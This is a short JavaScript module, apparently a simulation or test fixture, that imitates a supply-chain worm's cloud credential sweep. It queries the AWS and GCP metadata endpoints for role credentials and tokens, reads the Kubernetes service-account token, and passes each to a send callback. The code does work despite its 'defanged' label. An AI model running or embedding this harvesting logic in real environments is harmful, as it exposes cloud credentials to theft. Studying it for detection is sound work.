// Mimics the Shai-Hulud 2.0 cloud sweep: IMDS role credentials, GCP metadata token, k8s SA token (defanged, never run).
const fs = require('fs');
const http = require('http');

const targets = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
];
function sweep(send) {
  for (const url of targets) http.get(url, { headers: { 'Metadata-Flavor': 'Google' } }, send);
  const sa = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  if (fs.existsSync(sa)) send(fs.readFileSync(sa, 'utf8'));
}
module.exports = sweep;
